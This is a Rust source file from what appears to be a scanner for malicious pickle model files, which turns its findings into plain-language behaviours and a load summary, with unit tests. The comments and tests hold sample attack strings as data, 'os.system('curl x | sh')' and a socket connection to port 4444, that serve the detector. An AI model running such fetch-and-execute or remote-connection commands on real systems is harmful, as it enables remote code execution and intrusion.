//! Behaviours: what loading a file would do, in a reviewer's words (starts a process, opens a
//! network connection…), derived from the findings' knowledge-base categories and rules, with
//! the calls that do it and a one-line summary.

use crate::model::{Finding, Severity};
use serde::{Deserialize, Serialize};

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Behaviour {
    /// Stable kebab-case id (also a SARIF tag: `behaviour/<id>`).
    pub id: String,
    /// What it does, as the summary line says it ("starts a process").
    pub title: String,
    /// The calls that do it, as Python (at most three, distinct).
    pub calls: Vec<String>,
}

/// Behaviour ids (the knowledge base's category `behaviour` values) and how summaries say
/// them, in the order summaries list them (most alarming first).
pub const BEHAVIOURS: &[(&str, &str)] = &[
    ("runs-code", "runs Python code"),
    ("starts-process", "starts a process"),
    ("native-code", "loads native code"),
    ("network", "opens a network connection"),
    ("writes-files", "writes or deletes files"),
    ("reads-files", "reads files"),
    ("environment", "reads the environment or credentials"),
    ("persists", "installs hooks that outlive the load"),
    ("tampers-model", "tampers with the model or its framework"),
    ("evades-scanners", "reaches for model scanners"),
    ("loads-pickle", "loads another pickle"),
    ("builds-code", "rebuilds functions from serialized code"),
    ("dynamic-import", "imports modules or resolves callables from strings"),
    ("indirect-call", "calls a callable through another"),
    ("disrupts-loader", "stops or stalls the loading process"),
];

/// The behaviour a finding shows: its knowledge-base category's, or its rule's.
pub fn of_finding(finding: &Finding) -> Option<&'static str> {
    // Serialized code that is only rebuilt (not run, naming nothing dangerous) is rated
    // medium by its rule; saying "runs Python code" for it would overstate the load.
    if finding.rule == "code-object" && finding.severity < Severity::High {
        return Some("builds-code");
    }
    if let Some(category) = finding.category.as_deref() {
        let kb = crate::kb::Kb::builtin();
        let behaviour = kb.categories.iter().find(|c| c.id == category).map(|c| &*c.behaviour)?;
        return BEHAVIOURS.iter().find(|(id, _)| *id == behaviour).map(|(id, _)| *id);
    }
    match finding.rule.as_str() {
        "code-object" | "torchscript-code" => Some("runs-code"),
        "nested-pickle" => Some("loads-pickle"),
        "global-tampering" => Some("tampers-model"),
        "computed-global" => Some("dynamic-import"),
        _ => None,
    }
}

/// The file's behaviours, in [`BEHAVIOURS`] order. Findings below low (structure notes) show
/// no behaviour.
pub fn derive(findings: &[Finding]) -> Vec<Behaviour> {
    let mut out: Vec<Behaviour> = Vec::new();
    for (id, title) in BEHAVIOURS {
        let mut calls: Vec<String> = Vec::new();
        let mut seen = false;
        for finding in findings
            .iter()
            .filter(|f| f.severity >= Severity::Low && of_finding(f) == Some(id))
        {
            seen = true;
            if let Some(call) = finding.call.as_ref().or(finding.target.as_ref()) {
                if calls.len() < 3 && !calls.contains(call) {
                    calls.push(call.clone());
                }
            }
        }
        if seen {
            out.push(Behaviour {
                id: id.to_string(),
                title: title.to_string(),
                calls,
            });
        }
    }
    out
}

/// "on load: starts a process: os.system('curl … | sh'); opens a network connection: …".
pub fn summary(behaviours: &[Behaviour]) -> Option<String> {
    if behaviours.is_empty() {
        return None;
    }
    let parts: Vec<String> = behaviours
        .iter()
        .map(|b| match b.calls.first() {
            Some(call) => format!("{}: {}", b.title, crate::report::truncate(call, 120)),
            None => b.title.clone(),
        })
        .collect();
    Some(format!("on load: {}", parts.join("; ")))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::Confidence;

    fn finding(rule: &str, category: Option<&str>, call: &str) -> Finding {
        let mut f = Finding::new(rule, Severity::Critical, Confidence::High, "m".into());
        f.category = category.map(str::to_string);
        f.call = Some(call.into());
        f
    }

    #[test]
    fn every_category_of_the_knowledge_base_has_a_behaviour() {
        let kb = crate::kb::Kb::builtin();
        for category in &kb.categories {
            let f = finding("dangerous-call", Some(&category.id), "x()");
            assert!(of_finding(&f).is_some(), "category {} has no behaviour", category.id);
        }
    }

    #[test]
    fn behaviours_are_ordered_and_summarised() {
        let findings = vec![
            finding(
                "dangerous-call",
                Some("network"),
                "socket.create_connection(('10.0.0.1', 4444))",
            ),
            finding("dangerous-call", Some("process-execution"), "os.system('curl x | sh')"),
            finding("obfuscated-call", Some("process-execution"), "os.system('curl x | sh')"),
            finding("nested-pickle", None, "pickle.loads(b'...')"),
        ];
        let behaviours = derive(&findings);
        let ids: Vec<&str> = behaviours.iter().map(|b| b.id.as_str()).collect();
        assert_eq!(ids, ["starts-process", "network", "loads-pickle"]);
        assert_eq!(behaviours[0].calls, ["os.system('curl x | sh')"]);
        assert_eq!(
            summary(&behaviours).unwrap(),
            "on load: starts a process: os.system('curl x | sh'); opens a network connection: socket.create_connection(('10.0.0.1', 4444)); loads another pickle: pickle.loads(b'...')"
        );
        assert!(summary(&[]).is_none());
    }
}
